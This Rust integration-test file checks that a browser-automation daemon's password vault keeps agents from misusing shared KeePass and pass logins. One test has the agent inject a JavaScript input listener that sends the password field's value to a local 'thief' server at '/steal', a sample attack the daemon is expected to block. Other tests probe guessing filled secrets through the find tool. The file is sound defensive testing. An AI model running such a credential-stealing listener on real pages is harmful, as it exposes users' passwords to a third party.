//! The vault (issue 37, DESIGN.md §19), with real parts: KeePass databases written by the real
//! `keepassxc-cli` (KDBX 3.1 and 4, a key file), a real `pass` store encrypted to a gpg key made
//! here (no passphrase), real Chromium pages whose server logs what they receive. Agents fill
//! only the items the person shared with them, only into frames of the item's own origins,
//! with trusted typing; no answer carries a password; vault routes are the owner's alone.

use std::path::{Path, PathBuf};
use std::time::Duration;

use porthole_tests::action::Caller;
use porthole_tests::daemon::{DaemonOptions, TestDaemon};
use porthole_tests::mcp::ref_of;
use porthole_tests::pages::PageServer;
use porthole_tests::pane::Pane;
use porthole_tests::vault_fixture::{self, run, KdbxEntry, KdbxFormat};
use porthole_tests::{eventually, TempDir};
use serde_json::{json, Value};

pub(crate) const CHANNEL: &str = "vault";
pub(crate) const KP_PASSWORD: &str = "correct horse battery";
/// The site password in the KeePass database (URL-encoded in a form's query: `%40`).
pub(crate) const SITE_PASSWORD: &str = "s3cr3t-P@ss-kp";
/// The site password in the pass store.
pub(crate) const PASS_PASSWORD: &str = "pw-from-pass-9";
/// The KeePass entry's TOTP seed (any valid base32 will do).
pub(crate) const SEED: &str = "JBSWY3DPEHPK3PXP";

/// A `.kdbx` written by the real keepassxc-cli, locked with [`KP_PASSWORD`]: `Web/Forum` at
/// `site` with a TOTP seed, `Web/Other` elsewhere, `Web/Bare` at `site` with a user name only
/// (no password, no seed); KDBX 4 with `kdbx4`, else 3.1 (checked in its header); with
/// `key_file`, locked by `<dir>/<name>.key` too.
pub(crate) fn keepass_db(
    dir: &Path,
    name: &str,
    site: &str,
    kdbx4: bool,
    key_file: bool,
) -> PathBuf {
    let login = format!("{site}/login.html");
    let otp = format!("otpauth://totp/Forum:alice?secret={SEED}&period=30&digits=6&issuer=Forum");
    let entries = [
        KdbxEntry {
            title: "Forum",
            username: "alice",
            password: Some(SITE_PASSWORD),
            url: &login,
            otp: Some(&otp),
            extra: &[],
        },
        KdbxEntry {
            title: "Other",
            username: "carol",
            password: Some("other-secret-77"),
            url: "https://other.invalid/",
            otp: None,
            extra: &[],
        },
        KdbxEntry {
            title: "Bare",
            username: "dave",
            password: None,
            url: &login,
            otp: None,
            extra: &[],
        },
    ];
    let format = KdbxFormat { kdbx4, key_file };
    let db = vault_fixture::write(dir, name, KP_PASSWORD, &entries, format);
    // The header's version: 3.1 or 4.0, as asked.
    assert_eq!(
        vault_fixture::major_version(&db),
        if kdbx4 { 4 } else { 3 },
        "{name}: KDBX major version"
    );
    db
}

/// The current code of the database's entry, as keepassxc-cli computes it.
pub(crate) fn keepassxc_code(db: &Path, key: Option<&Path>) -> String {
    let mut args = vec!["show", "-q", "-t"];
    if let Some(key) = key {
        args.extend(["-k", key.to_str().unwrap()]);
    }
    args.extend([db.to_str().unwrap(), "Web/Forum"]);
    run("keepassxc-cli", &args, &[], &format!("{KP_PASSWORD}\n"))
        .trim()
        .to_string()
}

/// A gpg home with a fresh key (no passphrase) and a pass store encrypted to it, holding
/// `web/forum` at `site` with a TOTP line. Stops its gpg-agent when dropped.
pub(crate) struct PassStore {
    home: TempDir,
}

impl PassStore {
    pub(crate) fn new(site: &str) -> Self {
        let home = TempDir::new("vault-gpg");
        let gnupg = home.path().join("g");
        std::fs::create_dir(&gnupg).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&gnupg, std::fs::Permissions::from_mode(0o700)).unwrap();
        let store = home.path().join("store");
        let env = [
            ("GNUPGHOME", gnupg.as_path()),
            ("PASSWORD_STORE_DIR", store.as_path()),
        ];
        run(
            "gpg",
            &["--batch", "--quiet", "--gen-key"],
            &env,
            "%no-protection\nKey-Type: eddsa\nKey-Curve: ed25519\nSubkey-Type: ecdh\n\
             Subkey-Curve: cv25519\nName-Real: Porthole Vault Test\n\
             Name-Email: vault-test@porthole.invalid\nExpire-Date: 0\n%commit\n",
        );
        run("pass", &["init", "vault-test@porthole.invalid"], &env, "");
        run(
            "pass",
            &["insert", "-m", "web/forum"],
            &env,
            &format!(
                "{PASS_PASSWORD}\nlogin: bob\nurl: {site}/login.html\n\
                 otpauth://totp/Forum:bob?secret={SEED}&period=30&digits=6&issuer=Forum\n"
            ),
        );
        Self { home }
    }

    pub(crate) fn gnupg(&self) -> PathBuf {
        self.home.path().join("g")
    }

    pub(crate) fn store(&self) -> PathBuf {
        self.home.path().join("store")
    }
}

impl Drop for PassStore {
    fn drop(&mut self) {
        let _ = std::process::Command::new("gpgconf")
            .args(["--kill", "gpg-agent"])
            .env("GNUPGHOME", self.gnupg())
            .status();
    }
}

pub(crate) async fn put(
    daemon: &TestDaemon,
    token: &str,
    path: &str,
    body: &Value,
) -> (u16, Value) {
    daemon
        .request_as(Some(token), "PUT", path, Some(body))
        .await
}

pub(crate) async fn unlock(daemon: &TestDaemon, source: &str, password: &str) -> (u16, Value) {
    daemon
        .post(
            &format!("/api/browser/vault/{source}/unlock"),
            &json!({ "password": password }),
        )
        .await
}

pub(crate) fn state_of(overview: &Value, source: &str) -> String {
    overview["sources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == source)
        .map(|s| s["state"].as_str().unwrap().to_string())
        .unwrap_or_else(|| panic!("no source {source} in {overview}"))
}

/// The requests of `server` whose path starts with `prefix`.
pub(crate) fn received(server: &PageServer, prefix: &str) -> Vec<String> {
    server
        .requests()
        .into_iter()
        .filter(|r| r.starts_with(&format!("GET {prefix}")))
        .collect()
}

/// Waits for `server` to receive a request starting with `prefix`; returns it.
pub(crate) async fn wait_for(server: &PageServer, prefix: &str) -> String {
    eventually(
        &format!("a request {prefix}"),
        Duration::from_secs(10),
        || async { received(server, prefix).into_iter().next() },
    )
    .await
}

/// What the login page's form sends once `kp/Web/Forum` (alice) is filled and submitted.
pub(crate) fn forum_welcome() -> String {
    format!(
        "GET /welcome?user=alice&pass={}",
        SITE_PASSWORD.replace('@', "%40")
    )
}

/// `agent` fills `kp/Web/Forum` into the login page it is on and submits it: the call
/// succeeds and the site receives alice and the password. The call's answer.
pub(crate) async fn fill_forum_and_submit(agent: &Caller, site: &PageServer) -> String {
    let (is_error, text) = agent
        .act_text(
            "fill_login",
            json!({"item": "kp/Web/Forum", "submit": true}),
        )
        .await;
    assert!(!is_error, "{text}");
    assert_eq!(wait_for(site, "/welcome").await, forum_welcome());
    text
}

#[tokio::test(flavor = "multi_thread")]
async fn vault_routes_are_the_owners_and_a_wrong_password_leaves_the_source_locked() {
    let dir = TempDir::new("vault-db");
    let kp3 = keepass_db(dir.path(), "kp3", "http://127.0.0.1:9", false, false);
    let kp4 = keepass_db(dir.path(), "kp4", "http://127.0.0.1:9", true, true);
    let corrupt = dir.path().join("corrupt.kdbx");
    std::fs::write(&corrupt, b"this is not a keepass database").unwrap();
    let pass = PassStore::new("http://127.0.0.1:9");
    let daemon = TestDaemon::start_with(DaemonOptions {
        config: json!({"vault": {"sources": [
            {"kind": "keepass", "name": "kp3", "path": kp3},
            {"kind": "keepass", "name": "kp4", "path": kp4, "key_file": dir.path().join("kp4.key")},
            {"kind": "keepass", "name": "gone", "path": dir.path().join("missing.kdbx")},
            {"kind": "keepass", "name": "bad", "path": corrupt},
            {"kind": "pass", "name": "ps", "dir": pass.store()},
        ]}}),
        env: vec![("GNUPGHOME".into(), pass.gnupg().display().to_string())],
        ..Default::default()
    })
    .await;
    let (_, agent_token) = daemon.add_agent(CHANNEL, "helper", &[]).await;

    // Agent tokens get 403 on every vault route.
    for (method, path, body) in [
        ("GET", "/api/browser/vault", None),
        (
            "POST",
            "/api/browser/vault/kp3/unlock",
            Some(json!({"password": KP_PASSWORD})),
        ),
        ("POST", "/api/browser/vault/kp3/lock", None),
        ("GET", "/api/browser/vault/shares", None),
        (
            "PUT",
            "/api/browser/vault/shares",
            Some(json!({"shares": [{"item": "kp3/Web/Forum", "agents": ["*"]}]})),
        ),
    ] {
        let (status, answer) = daemon
            .request_as(Some(&agent_token), method, path, body.as_ref())
            .await;
        assert_eq!(status, 403, "{method} {path}: {answer}");
        assert_eq!(answer["error"]["code"], "agent_forbidden", "{answer}");
    }
    let (status, shares) = daemon.get("/api/browser/vault/shares").await;
    assert_eq!((status, &shares["shares"]), (200, &json!([])), "{shares}");

    // States: locked databases, a missing and a corrupt one in error, pass unlocked.
    let (status, overview) = daemon.get("/api/browser/vault").await;
    assert_eq!(status, 200, "{overview}");
    assert_eq!(state_of(&overview, "kp3"), "locked");
    assert_eq!(state_of(&overview, "kp4"), "locked");
    assert_eq!(state_of(&overview, "gone"), "error");
    assert_eq!(state_of(&overview, "ps"), "unlocked");
    let items: Vec<&str> = overview["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["item"].as_str().unwrap())
        .collect();
    assert_eq!(items, ["ps/web/forum"], "{overview}");
    // Listed from the store's names, never decrypted (V13): `web/forum` names no site and no
    // user, so neither is known before a fill (the file holds `login: bob`).
    assert_eq!(overview["items"][0]["username"], "", "{overview}");
    assert_eq!(overview["items"][0]["origins"], json!([]), "{overview}");

    // A wrong password: 4xx naming it; still locked.
    let (status, answer) = unlock(&daemon, "kp3", "not the password").await;
    assert_eq!(status, 400, "{answer}");
    assert_eq!(answer["error"]["code"], "wrong_password", "{answer}");
    assert!(answer["error"]["message"]
        .as_str()
        .unwrap()
        .contains("wrong password"));
    let (_, overview) = daemon.get("/api/browser/vault").await;
    assert_eq!(state_of(&overview, "kp3"), "locked");
    let (status, answer) = unlock(&daemon, "bad", "whatever").await;
    assert_eq!(status, 409, "{answer}");
    let (_, overview) = daemon.get("/api/browser/vault").await;
    assert_eq!(state_of(&overview, "bad"), "error", "{overview}");
    let (status, _) = unlock(&daemon, "nope", "x").await;
    assert_eq!(status, 404);

    // The right password (KDBX 3.1), and password plus key file (KDBX 4).
    let (status, answer) = unlock(&daemon, "kp3", KP_PASSWORD).await;
    assert_eq!(status, 200, "{answer}");
    let (status, answer) = unlock(&daemon, "kp4", KP_PASSWORD).await;
    assert_eq!(status, 200, "{answer}");
    let (_, overview) = daemon.get("/api/browser/vault").await;
    assert_eq!(state_of(&overview, "kp3"), "unlocked");
    let forum = overview["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["item"] == "kp4/Web/Forum")
        .unwrap_or_else(|| panic!("kp4/Web/Forum in {overview}"));
    assert_eq!(forum["username"], "alice");
    assert_eq!(forum["origins"], json!(["http://127.0.0.1:9"]));
    assert_eq!(forum["has_totp"], true);
    let text = overview.to_string();
    for secret in [SITE_PASSWORD, PASS_PASSWORD, SEED, KP_PASSWORD] {
        assert!(!text.contains(secret), "a secret in the overview: {text}");
    }

    // Shares: a bad list changes nothing; a good one is kept.
    let (status, answer) = put(
        &daemon,
        &daemon.token,
        "/api/browser/vault/shares",
        &json!({"shares": [{"item": "zz/Web/Forum", "agents": ["*"]}]}),
    )
    .await;
    assert_eq!(status, 400, "{answer}");
    assert_eq!(answer["error"]["code"], "bad_share");
    let good = json!({"shares": [{"item": "kp3/Web/Forum", "agents": ["*"], "origins": ["http://127.0.0.1:9"]}]});
    let (status, answer) = put(&daemon, &daemon.token, "/api/browser/vault/shares", &good).await;
    assert_eq!((status, &answer), (200, &good));
    let (_, shares) = daemon.get("/api/browser/vault/shares").await;
    assert_eq!(shares, good);

    // Lock: locked again, its items gone from the list (they were there before it).
    let items_of = |overview: &Value, source: &str| -> Vec<String> {
        overview["items"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|i| i["item"].as_str())
            .filter(|i| i.starts_with(&format!("{source}/")))
            .map(str::to_string)
            .collect()
    };
    let (_, overview) = daemon.get("/api/browser/vault").await;
    assert!(
        items_of(&overview, "kp3").contains(&"kp3/Web/Forum".to_string()),
        "{overview}"
    );
    let (status, _) = daemon.post("/api/browser/vault/kp3/lock", &json!({})).await;
    assert_eq!(status, 200);
    let (_, overview) = daemon.get("/api/browser/vault").await;
    assert_eq!(state_of(&overview, "kp3"), "locked");
    assert!(items_of(&overview, "kp3").is_empty(), "{overview}");
    // Nothing secret reached the log.
    let log = daemon.log();
    for secret in [
        SITE_PASSWORD,
        PASS_PASSWORD,
        KP_PASSWORD,
        "not the password",
    ] {
        assert!(!log.contains(secret), "{secret} in the daemon's log");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn fill_login_types_into_the_items_own_site_only_and_never_answers_the_password() {
    let site = PageServer::area("vault").await;
    let lookalike = PageServer::area("vault").await;
    site.set("FRAME", &lookalike.url("/login.html"));
    let dir = TempDir::new("vault-db");
    let pass = PassStore::new(&site.base());
    let kp = keepass_db(dir.path(), "kp", &site.base(), true, false);
    let daemon = TestDaemon::start_with(DaemonOptions {
        config: json!({"vault": {"sources": [
            {"kind": "keepass", "name": "kp", "path": kp},
            {"kind": "pass", "name": "ps", "dir": pass.store()},
        ]}}),
        env: vec![("GNUPGHOME".into(), pass.gnupg().display().to_string())],
        ..Default::default()
    })
    .await;
    let (agent_id, token) = daemon.add_agent(CHANNEL, "signer", &[]).await;
    let (_, other_token) = daemon.add_agent(CHANNEL, "other", &[]).await;
    let agent = daemon.caller(&token);
    let other = daemon.caller(&other_token);
    let shares = json!({"shares": [
        {"item": "kp/Web/Forum", "agents": [agent_id]},
        {"item": "ps/web/forum", "agents": ["*"]},
    ]});
    let (status, answer) = put(&daemon, &daemon.token, "/api/browser/vault/shares", &shares).await;
    assert_eq!(status, 200, "{answer}");
    let mut answers = String::new();

    // Locked: the fill says the person can unlock it in the pane, and the pane is told.
    let pane = Pane::connect(&daemon.addr, &daemon.token).await;
    pane.start(CHANNEL).await;
    agent
        .act_ok("navigate", json!({"url": site.url("/login.html")}))
        .await;
    let (is_error, text) = agent
        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
        .await;
    assert!(
        is_error && text.contains("locked") && text.contains("pane"),
        "{text}"
    );
    let locked = pane.next_of("vault_locked", 0).await;
    assert_eq!(locked["source"], "kp", "{locked}");
    answers.push_str(&text);
    let (status, answer) = unlock(&daemon, "kp", KP_PASSWORD).await;
    assert_eq!(status, 200, "{answer}");

    // list_logins: what is shared with this agent, and whether this tab is its site.
    let (is_error, text) = agent.act_text("list_logins", json!({})).await;
    assert!(!is_error, "{text}");
    let listed: Value = serde_json::from_str(&text).unwrap();
    let items: Vec<&str> = listed["logins"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["item"].as_str().unwrap())
        .collect();
    assert_eq!(items, ["kp/Web/Forum", "ps/web/forum"], "{text}");
    assert_eq!(listed["logins"][0]["matches_tab"], true, "{text}");
    answers.push_str(&text);

    // An unshared item (kp/Web/Other), and an item shared with another agent only.
    let (is_error, text) = agent
        .act_text("fill_login", json!({"item": "kp/Web/Other"}))
        .await;
    assert!(is_error, "{text}");
    assert!(
        text.contains("kp/Web/Forum, ps/web/forum"),
        "lists the agent's items: {text}"
    );
    let (is_error, text) = other
        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
        .await;
    assert!(is_error && text.contains("ps/web/forum"), "{text}");
    answers.push_str(&text);

    // The look-alike (same page, another origin): refused, nothing typed there.
    agent
        .act_ok("navigate", json!({"url": lookalike.url("/login.html")}))
        .await;
    let (is_error, text) = agent
        .act_text(
            "fill_login",
            json!({"item": "kp/Web/Forum", "submit": true}),
        )
        .await;
    assert!(is_error, "{text}");
    assert!(
        text.contains(&lookalike.base()) && text.contains(&site.base()),
        "names both origins: {text}"
    );
    answers.push_str(&text);

    // A cross-origin frame inside the right site: refused, nothing typed in it.
    agent
        .act_ok("navigate", json!({"url": site.url("/framed.html")}))
        .await;
    let page = eventually(
        "the frame's fields in read_page",
        Duration::from_secs(10),
        || {
            let agent = agent.clone();
            async move {
                let (_, text) = agent.act_text("read_page", json!({})).await;
                text.contains("Password").then_some(text)
            }
        },
    )
    .await;
    let (user_ref, pass_ref) = (ref_of(&page, "User"), ref_of(&page, "Password"));
    let (is_error, text) = agent
        .act_text(
            "fill_login",
            json!({"item": "kp/Web/Forum", "username_ref": user_ref, "password_ref": pass_ref}),
        )
        .await;
    assert!(is_error, "{text}");
    assert!(text.contains(&lookalike.base()), "{text}");
    answers.push_str(&text);
    assert!(
        received(&lookalike, "/typed").is_empty() && received(&lookalike, "/welcome").is_empty(),
        "the look-alike received typing: {:?}",
        lookalike.requests()
    );

    // A wrong kind of field: the password never goes into a text field.
    agent
        .act_ok("navigate", json!({"url": site.url("/login.html")}))
        .await;
    let (_, page) = agent.act_text("read_page", json!({})).await;
    let user_ref = ref_of(&page, "User");
    let (is_error, text) = agent
        .act_text(
            "fill_login",
            json!({"item": "kp/Web/Forum", "password_ref": user_ref}),
        )
        .await;
    assert!(is_error && text.contains("not a password field"), "{text}");
    assert!(
        received(&site, "/typed").is_empty(),
        "{:?}",
        site.requests()
    );

    // The right site: the fields are found, typed with trusted input, and the form sent.
    let text = fill_forum_and_submit(&agent, &site).await;
    assert!(
        text.contains("username and password of 'Forum'") && text.contains(&site.base()),
        "{text}"
    );
    answers.push_str(&text);
    let encoded = SITE_PASSWORD.replace('@', "%40");
    let typed = received(&site, "/typed");
    assert!(
        !typed.is_empty() && typed.iter().all(|t| t.ends_with("trusted=true")),
        "{typed:?}"
    );

    // From the pass store, into the same site.
    agent
        .act_ok("navigate", json!({"url": site.url("/login.html")}))
        .await;
    let (is_error, text) = agent
        .act_text(
            "fill_login",
            json!({"item": "ps/web/forum", "submit": true}),
        )
        .await;
    assert!(!is_error, "{text}");
    answers.push_str(&text);
    let sent = eventually("the pass login's form", Duration::from_secs(10), || async {
        received(&site, "/welcome?user=bob").into_iter().next()
    })
    .await;
    assert_eq!(sent, format!("GET /welcome?user=bob&pass={PASS_PASSWORD}"));

    // No answer carried a secret; the timeline has the fills, without values.
    for secret in [SITE_PASSWORD, encoded.as_str(), PASS_PASSWORD, KP_PASSWORD] {
        assert!(
            !answers.contains(secret),
            "{secret} in an answer: {answers}"
        );
    }
    // The timeline is written off the call's path: wait for the last fill's event.
    let look = lookalike.base();
    let timeline = eventually(
        "the vault events in the timeline",
        Duration::from_secs(10),
        || {
            let (daemon, look) = (&daemon, look.clone());
            async move {
                let (timeline, fills) = daemon.timeline_of(CHANNEL, "vault").await;
                let summary = |e: &Value| e["summary"].as_str().unwrap_or_default().to_string();
                let filled = fills
                    .iter()
                    .filter(|e| e["ok"] == true && summary(e).contains("'Forum'"))
                    .count();
                let refused = fills
                    .iter()
                    .any(|e| e["ok"] == false && summary(e).contains(&look));
                (filled == 1 && refused && fills.iter().any(|e| summary(e).contains("'forum'")))
                    .then_some(timeline)
            }
        },
    )
    .await;
    let all = timeline.to_string();
    for secret in [SITE_PASSWORD, encoded.as_str(), PASS_PASSWORD] {
        assert!(!all.contains(secret), "{secret} in the timeline");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn fill_totp_types_the_code_keepassxc_computes() {
    let site = PageServer::area("vault").await;
    let dir = TempDir::new("vault-db");
    let kp = keepass_db(dir.path(), "kp", &site.base(), false, false);
    let daemon = TestDaemon::start_with(DaemonOptions {
        config: json!({"vault": {
            "sources": [{"kind": "keepass", "name": "kp", "path": kp}],
            "share": [{"item": "kp/Web/Forum", "agents": ["*"], "origins": [site.base()]}],
        }}),
        ..Default::default()
    })
    .await;
    let (_, token) = daemon.add_agent(CHANNEL, "coder", &[]).await;
    let agent = daemon.caller(&token);
    let (status, answer) = unlock(&daemon, "kp", KP_PASSWORD).await;
    assert_eq!(status, 200, "{answer}");
    agent
        .act_ok("navigate", json!({"url": site.url("/otp.html")}))
        .await;
    let before = keepassxc_code(&kp, None);
    let (is_error, text) = agent
        .act_text("fill_totp", json!({"item": "kp/Web/Forum", "submit": true}))
        .await;
    let after = keepassxc_code(&kp, None);
    assert!(!is_error, "{text}");
    assert!(text.contains("a one-time code"), "{text}");
    // The page's beacon sees the typing (what the "nothing typed" checks on otp.html rely on).
    wait_for(&site, "/typed?field=code&len=6").await;
    let sent = wait_for(&site, "/verified").await;
    let code = sent.trim_start_matches("GET /verified?code=").to_string();
    assert!(
        code == before || code == after,
        "the page got {code:?}; keepassxc-cli computed {before:?} then {after:?}"
    );
    assert!(!text.contains(&code), "the code in the answer: {text}");
}

/// `fill_totp` from a `pass` entry's `otpauth://` line (pass-otp's form), decrypted by the real
/// gpg: the page gets the code keepassxc-cli computes for the same seed.
#[tokio::test(flavor = "multi_thread")]
async fn fill_totp_from_pass_types_the_code_of_its_otpauth_line() {
    let site = PageServer::area("vault").await;
    let dir = TempDir::new("vault-db");
    let kp = keepass_db(dir.path(), "kp", &site.base(), false, false);
    let pass = PassStore::new(&site.base());
    let daemon = TestDaemon::start_with(DaemonOptions {
        config: json!({"vault": {
            "sources": [{"kind": "pass", "name": "ps", "dir": pass.store()}],
            "share": [{"item": "ps/web/forum", "agents": ["*"]}],
        }}),
        env: vec![("GNUPGHOME".into(), pass.gnupg().display().to_string())],
        ..Default::default()
    })
    .await;
    let (_, token) = daemon.add_agent(CHANNEL, "coder", &[]).await;
    let agent = daemon.caller(&token);
    agent
        .act_ok("navigate", json!({"url": site.url("/otp.html")}))
        .await;
    let before = keepassxc_code(&kp, None);
    let (is_error, text) = agent
        .act_text("fill_totp", json!({"item": "ps/web/forum", "submit": true}))
        .await;
    let after = keepassxc_code(&kp, None);
    assert!(!is_error, "{text}");
    let sent = wait_for(&site, "/verified").await;
    let code = sent.trim_start_matches("GET /verified?code=").to_string();
    assert!(
        code == before || code == after,
        "the page got {code:?}; keepassxc-cli computed {before:?} then {after:?}"
    );
    assert!(!text.contains(&code), "the code in the answer: {text}");
}

#[tokio::test(flavor = "multi_thread")]
async fn script_and_secrets_never_share_a_document() {
    let site = PageServer::area("vault").await;
    let thief = PageServer::start().await;
    let dir = TempDir::new("vault-db");
    let kp = keepass_db(dir.path(), "kp", &site.base(), true, false);
    let daemon = TestDaemon::start_with(DaemonOptions {
        config: vault_fixture::keepass_vault(&kp, &["kp/Web/Forum"]),
        ..Default::default()
    })
    .await;
    let (_, token) = daemon.add_agent(CHANNEL, "scripter", &[]).await;
    let agent = daemon.caller(&token);
    let (status, answer) = unlock(&daemon, "kp", KP_PASSWORD).await;
    assert_eq!(status, 200, "{answer}");

    // The agent's own script waits for the password field's input, to send it elsewhere.
    agent
        .act_ok("navigate", json!({"url": site.url("/login.html")}))
        .await;
    let listener = format!(
        "document.querySelector('#pass').addEventListener('input', (e) => \
         fetch('{}/steal?v=' + encodeURIComponent(e.target.value), {{mode: 'no-cors'}})); \
         'armed';",
        thief.base()
    );
    agent
        .act_ok("evaluate", json!({"expression": listener}))
        .await;
    let (is_error, text) = agent
        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
        .await;
    assert!(is_error && text.contains("evaluate"), "{text}");
    assert!(
        received(&site, "/typed").is_empty(),
        "{:?}",
        site.requests()
    );

    // A fresh document of the site: the fill goes through, then evaluate is refused there.
    agent
        .act_ok("navigate", json!({"url": site.url("/login.html")}))
        .await;
    let (is_error, text) = agent
        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
        .await;
    assert!(!is_error, "{text}");
    wait_for(&site, "/typed?field=pass").await;
    let (is_error, text) = agent
        .act_text(
            "evaluate",
            json!({"expression": "document.querySelector('#pass').value"}),
        )
        .await;
    assert!(is_error && text.contains("filled"), "{text}");
    assert!(!text.contains(SITE_PASSWORD), "{text}");

    // Once that document is gone, evaluate works again in the site's pages.
    agent
        .act_ok("navigate", json!({"url": site.url("/otp.html")}))
        .await;
    let (is_error, text) = agent
        .act_text("evaluate", json!({"expression": "document.title"}))
        .await;
    assert!(!is_error && text.contains("Two-factor"), "{text}");
    assert!(
        thief.requests().iter().all(|r| !r.contains("/steal")),
        "the thief got a request: {:?}",
        thief.requests()
    );
}

/// Every file under `dir` but the browser profiles, with its bytes.
fn files_of(dir: &Path, out: &mut Vec<(PathBuf, Vec<u8>)>) {
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            if entry.file_name() != "profiles" {
                files_of(&path, out);
            }
        } else if let Ok(bytes) = std::fs::read(&path) {
            out.push((path, bytes));
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_answer_carries_a_filled_secret_even_from_a_page_that_echoes_it() {
    use base64::Engine as _;
    let site = PageServer::area("vault").await;
    let dir = TempDir::new("vault-db");
    let kp = keepass_db(dir.path(), "kp", &site.base(), true, false);
    let daemon = TestDaemon::start_with(DaemonOptions {
        config: vault_fixture::keepass_vault(&kp, &["kp/Web/Forum"]),
        rust_log: "porthole=trace,info",
        ..Default::default()
    })
    .await;
    let (_, token) = daemon.add_agent(CHANNEL, "reader", &[]).await;
    let agent = daemon.caller(&token);
    let (status, answer) = unlock(&daemon, "kp", KP_PASSWORD).await;
    assert_eq!(status, 200, "{answer}");
    agent
        .act_ok("navigate", json!({"url": site.url("/echo.html")}))
        .await;
    let (is_error, text) = agent
        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
        .await;
    assert!(!is_error, "{text}");
    wait_for(&site, "/echo?v=").await;

    let forms = [
        SITE_PASSWORD.to_string(),
        SITE_PASSWORD.replace('@', "%40"),
        base64::engine::general_purpose::STANDARD.encode(SITE_PASSWORD),
    ];
    let mut answers = text;
    for (tool, args) in [
        ("get_page_text", json!({})),
        ("read_page", json!({})),
        ("find", json!({"query": "You typed"})),
        ("read_console_messages", json!({})),
        ("read_network_requests", json!({})),
        ("page_info", json!({})),
    ] {
        let (_, text) = agent.act_text(tool, args).await;
        for form in &forms {
            assert!(
                !text.contains(form.as_str()),
                "{tool} answered the secret: {text}"
            );
        }
        answers.push_str(&text);
    }
    assert!(answers.contains("You typed [secret]"), "{answers}");
    assert!(answers.contains("base64 [secret]"), "{answers}");
    assert!(answers.contains("/echo?v=[secret]"), "{answers}");

    // Not in the data directory (timeline, state database; profiles aside) nor in the
    // trace-level log.
    let mut files = Vec::new();
    files_of(daemon.data.path(), &mut files);
    assert!(files.len() > 2, "{files:?}");
    for (path, bytes) in &files {
        for form in &forms {
            assert!(
                !bytes.windows(form.len()).any(|w| w == form.as_bytes()),
                "{} holds the secret",
                path.display()
            );
        }
    }
}

/// A daemon whose vault has the KeePass database of [`keepass_db`] (KDBX 3.1), unlocked, with
/// `kp/Web/Forum` shared with every agent, and one agent `name` on [`CHANNEL`].
pub(super) struct Unlocked {
    pub(super) site: PageServer,
    /// Holds the database file.
    pub(super) _dir: TempDir,
    pub(super) kp: PathBuf,
    pub(super) daemon: TestDaemon,
    pub(super) agent: Caller,
}

pub(super) async fn unlocked_forum(name: &str) -> Unlocked {
    let site = PageServer::area("vault").await;
    let dir = TempDir::new("vault-db");
    let kp = keepass_db(dir.path(), "kp", &site.base(), false, false);
    let daemon = TestDaemon::start_with(DaemonOptions {
        config: vault_fixture::keepass_vault(&kp, &["kp/Web/Forum"]),
        ..Default::default()
    })
    .await;
    let (_, token) = daemon.add_agent(CHANNEL, name, &[]).await;
    let agent = daemon.caller(&token);
    let (status, answer) = unlock(&daemon, "kp", KP_PASSWORD).await;
    assert_eq!(status, 200, "{answer}");
    Unlocked {
        site,
        _dir: dir,
        kp,
        daemon,
        agent,
    }
}

/// What `find` answers for `query` (never an error).
async fn found(agent: &Caller, query: &str) -> String {
    let (is_error, text) = agent.act_text("find", json!({ "query": query })).await;
    assert!(!is_error, "find {query:?}: {text}");
    text
}

/// No reading tool is an oracle on a filled secret (DESIGN.md §19a; the vault review's V2):
/// `find` matches a password field, a one-time code field, or any field the vault typed a
/// secret into, by its name and never by its value, and each reads as filled (`••••`). A
/// guess that is part of the value and one that is not get the same answer: no match.
#[tokio::test(flavor = "multi_thread")]
async fn find_never_matches_a_filled_secret_by_its_value() {
    let Unlocked {
        site,
        _dir,
        kp,
        daemon: _daemon,
        agent,
    } = unlocked_forum("prober").await;

    // A password field: found by its name, shown filled, never found by its value.
    agent
        .act_ok("navigate", json!({"url": site.url("/login.html")}))
        .await;
    let (is_error, text) = agent
        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
        .await;
    assert!(!is_error, "{text}");
    let by_name = found(&agent, "pass").await;
    assert!(
        by_name.contains("textbox") && by_name.contains("value=\"••••\""),
        "{by_name}"
    );
    let part = SITE_PASSWORD[..6].to_lowercase();
    for query in [format!("pass {part}"), "pass zq8zq8".to_string()] {
        let text = found(&agent, &query).await;
        assert!(!text.contains("[ref="), "find {query:?} matched: {text}");
    }

    // A field the page marks as a one-time code, and a plain text field the vault typed a
    // code into (no hint but the vault's own mark): the same.
    for (page, name, by_ref) in [
        ("/otp.html", "code", false),
        ("/plain-code.html", "answer", true),
    ] {
        agent
            .act_ok("navigate", json!({"url": site.url(page)}))
            .await;
        let mut args = json!({"item": "kp/Web/Forum"});
        if by_ref {
            args["ref"] = json!(ref_of(&found(&agent, name).await, "textbox"));
        }
        let before = keepassxc_code(&kp, None);
        let (is_error, text) = agent.act_text("fill_totp", args).await;
        let after = keepassxc_code(&kp, None);
        assert!(!is_error, "{page}: {text}");
        let by_name = found(&agent, name).await;
        assert!(by_name.contains("value=\"••••\""), "{page}: {by_name}");
        for code in [&before, &after] {
            let query = format!("{name} {}", &code[..4]);
            let text = found(&agent, &query).await;
            assert!(
                !text.contains("[ref="),
                "{page}: find {query:?} matched: {text}"
            );
        }
    }
}

/// An `evaluate` still running when a fill comes counts as script in its document (DESIGN.md
/// §19a; the vault review's V1): the fill is refused there, so the script's awaiting listener
/// never receives the password. Its positive control is the fresh document in
/// `script_and_secrets_never_share_a_document`, where the same fill goes through.
#[tokio::test(flavor = "multi_thread")]
async fn a_running_evaluate_keeps_a_fill_out_of_its_document() {
    let Unlocked {
        site,
        _dir,
        kp: _,
        daemon: _daemon,
        agent,
    } = unlocked_forum("listener").await;
    agent
        .act_ok("navigate", json!({"url": site.url("/login.html")}))
        .await;
    // The listener answers with the password's character codes (which no scan would catch),
